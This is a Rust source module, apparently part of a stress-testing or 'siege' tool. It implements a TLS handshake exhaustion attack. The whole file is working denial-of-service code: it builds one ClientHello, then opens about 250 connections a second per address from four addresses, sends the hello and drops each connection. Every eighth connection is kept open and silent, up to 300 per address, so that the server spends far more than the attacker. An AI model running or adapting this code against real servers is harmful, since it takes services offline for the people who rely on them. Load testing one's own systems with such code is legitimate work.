//! TLS handshakes that are begun and dropped. The hello is made once, so that each one costs the
//! server much more than the attacker.

use super::{Attack, Field, PATIENCE};
use crate::siege::sockets::connect;
use anyhow::Result;
use rustls::crypto::aws_lc_rs::default_provider;
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use std::io::{Read, Write};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

const ADDRESSES: usize = 4;
/// Handshakes a second of each address at most.
const A_SECOND: u32 = 250;
/// Every so many connections one is kept open, without a word.
const SILENT_EVERY: usize = 8;
/// Silent connections of each address.
const SILENT_MAX: usize = 300;

pub(super) fn run(field: &Field<'_>) {
    let hello = match hello() {
        Ok(hello) => hello,
        Err(error) => return field.count(Attack::Handshakes, error),
    };
    thread::scope(|scope| {
        for number in 0..ADDRESSES {
            let hello = &hello;
            scope.spawn(move || begin(field, hello, number));
        }
    });
}

fn begin(field: &Field<'_>, hello: &[u8], number: usize) {
    let from = Attack::Handshakes.address(number);
    let mut silent = Vec::new();
    for turn in 0_usize.. {
        let begun = Instant::now();
        if field.is_over() {
            break;
        }
        match connect(from, field.arguments.https, PATIENCE) {
            Ok(stream) if turn % SILENT_EVERY == 0 => {
                silent.push(stream);
                if silent.len() > SILENT_MAX {
                    silent.remove(0);
                }
            }
            Ok(mut stream) => {
                let answered = stream.write_all(hello).and_then(|()| stream.read(&mut [0; 64]));
                let what = if answered.is_ok_and(|bytes| bytes > 0) { "answered" } else { "not answered" };
                field.count(Attack::Handshakes, what);
            }
            Err(error) => {
                field.count(Attack::Handshakes, error.kind());
                thread::sleep(Duration::from_millis(100));
            }
        }
        field.pace(begun, A_SECOND);
    }
}

/// The first message of a client.
fn hello() -> Result<Vec<u8>> {
    let config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
        .with_safe_default_protocol_versions()?
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let mut session = ClientConnection::new(Arc::new(config), "localhost".try_into()?)?;
    let mut hello = Vec::new();
    session.write_tls(&mut hello)?;
    Ok(hello)
}
